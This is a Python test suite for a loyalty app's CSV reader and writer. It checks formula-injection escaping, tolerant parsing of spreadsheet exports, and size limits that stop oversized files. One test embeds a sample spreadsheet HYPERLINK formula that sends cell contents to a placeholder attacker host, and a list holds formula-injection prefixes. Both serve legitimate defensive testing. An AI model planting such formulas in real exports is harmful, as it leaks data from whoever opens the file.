"""CSV that cannot run as a formula, and CSV that cannot eat the machine that reads it."""

import csv
import io
import re
import resource
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from loyalty.csv_files import BadRow, Bounds, CsvWriter, Row, UnreadableFile, csv_lines, no_formula, read_csv
from loyalty.tests.architecture import ROOT, texts

COLUMNS = ("external_id", "name", "phone")
FORMULAS = [
    "=1+1",
    "+31612345678",
    "-1",
    "@x",
    "\tx",
    "\rx",
    "\nx",
    "\uff1dx",
    "\uff0bx",
    "\uff0dx",
    "\uff20x",
    " =1",
    "'=1",
]


def written(columns, *rows) -> str:
    file = io.StringIO()
    writer = CsvWriter(file, columns)
    for row in rows:
        writer.row(row)
    return file.getvalue()


def read(text: str | bytes, **given) -> list:
    raw = text.encode() if isinstance(text, str) else text
    return list(read_csv(io.BytesIO(raw), columns=COLUMNS, **given))


def refusal(text: str | bytes, **given) -> str:
    with pytest.raises(UnreadableFile) as caught:
        read(text, **given)
    return caught.value.detail


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(text):
    assert no_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Ana", "12", "a=1", "O'Neill", "'t Hof", ""])
def test_other_text_stays_as_it_is(text):
    assert no_formula(text) == text


def test_whatever_leaves_as_csv_goes_through_here():
    """A writer of one's own would let formulas out."""
    written = re.compile(r"csv\.(writer|DictWriter)")
    ours = [path for path in texts(".py") if "tests" not in path.parts]
    writers = {str(path.relative_to(ROOT)) for path in ours if written.search(path.read_text())}

    assert writers == {"loyalty/csv_files.py"}


def test_texts_are_quoted_and_numbers_stay_numbers():
    moment = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)

    line = written(["a"], ["x;=1", -5, Decimal("-1.50"), None, True, moment, date(2026, 1, 2)]).splitlines()[1]

    assert line == '"x;=1",-5,-1.50,"","yes","2026-11-21T09:30:00Z","2026-01-02"'


def test_a_reward_that_is_a_formula_is_text_after_an_export():
    name = '=HYPERLINK("http://evil.example?x="&A1,"Free coffee")'

    (row,) = csv.DictReader(io.StringIO(written(["name", "cost"], [name, -100])))

    assert row == {"name": f"'{name}", "cost": "-100"}


def test_a_stream_of_lines_is_the_same_behind_a_byte_order_mark():
    assert "".join(csv_lines(["name"], [["=1"], ["Zoë"]])) == "\ufeff" + written(["name"], ["=1"], ["Zoë"])


@pytest.mark.parametrize("text", ["+31612345678", "=1+1", "'=1", 'Zoë; van, "B"', "two\nlines"])
def test_what_was_written_is_read_back(text):
    cells = {"external_id": "7", "name": text, "phone": ""}

    assert read(written(COLUMNS, cells.values())) == [Row(2 + text.count("\n"), cells)]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("mark", ["", "\ufeff"])
def test_the_ways_in_which_spreadsheets_save_are_all_read(delimiter, mark):
    lines = ["Phone", " External ID "], ["'+316", "1"], ["", ""], ["", "2"]

    rows = read(mark + "\r\n".join(delimiter.join(line) for line in lines))

    assert rows == [Row(2, {"phone": "+316", "external_id": "1"}), Row(4, {"phone": "", "external_id": "2"})]


def test_rows_that_cannot_be_right_are_told_apart_and_the_rest_is_read():
    text = 'external_id,name\n1,Ana\n2\n3,a,b\n4,"x"y\n5,be\x07ll\n6,' + "n" * 2001 + "\n7,Ben\n"

    assert [(row.line, getattr(row, "reason", "")) for row in read(text)] == [
        (2, ""),
        (3, "there are 1 cells where 2 belong"),
        (4, "there are 3 cells where 2 belong"),
        (5, "this is not readable as CSV: ',' expected after '\"'"),
        (6, "name has characters in it that are no text"),
        (7, "name is longer than 2,000 characters"),
        (8, ""),
    ]


@pytest.mark.parametrize(
    "text, said",
    [
        (b"", "The first line must name the columns"),
        (b"PK\x03\x04rest", "This is a workbook"),
        (b"\x1f\x8b\x08\x00", "This is a workbook or a packed file"),
        ("external_id\nAna".encode("utf-16"), "The file is in UTF-16"),
        (b"external_id\nZo\xeb", "The file is not UTF-8"),
        (b"external_id\nA\x00na", "There are NUL characters"),
        (b"name,mood\n", "There is no column 'mood' here"),
        (b"name,Name\n", "The column 'name' stands in the first line twice"),
        (b"name\n", "The column 'external_id' is missing"),
        (b"external_id," * 30_000, "There is a line of more than"),
        (b"name," * 1000, "The file has more than 64 columns"),
        (b"external_id\n" + b"x" * 70_000, "There is a line of more than"),
    ],
)
def test_what_is_no_csv_is_refused_in_words(text, said):
    assert said in refusal(text, required=["external_id"])


def test_rows_and_bytes_are_counted_while_they_are_read():
    assert "more than 3 rows" in refusal("name\n" + "Ana\n" * 4, bounds=Bounds(rows_max=3))
    assert "more than 1 MB" in refusal("name\n" + "Ana\n" * 400_000, bounds=Bounds(bytes_max=1024**2, rows_max=10**9))


class Endless:
    """A file of a gigabyte that nobody has to keep."""

    def __init__(self, head: bytes, piece: bytes):
        self.head, self.piece, self.left = head, piece, 1024**3

    def seek(self, place: int) -> None:
        self.begun = False

    def read(self, size: int = -1) -> bytes:
        if not self.begun:
            self.begun = True
            return self.head
        self.left -= len(self.piece)
        return self.piece if self.left > 0 else b""


@pytest.mark.parametrize("piece", [b"x" * 8192, b'"' + b"y\n" * 4096, b"," * 8192, b"1\n" * 4096])
def test_a_gigabyte_is_given_up_early_whatever_is_in_it(piece):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    file = Endless(b"external_id\n", piece)

    with pytest.raises(UnreadableFile):
        for row in read_csv(file, columns=COLUMNS):
            assert isinstance(row, Row | BadRow)

    assert file.left > 900 * 1024**2
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024
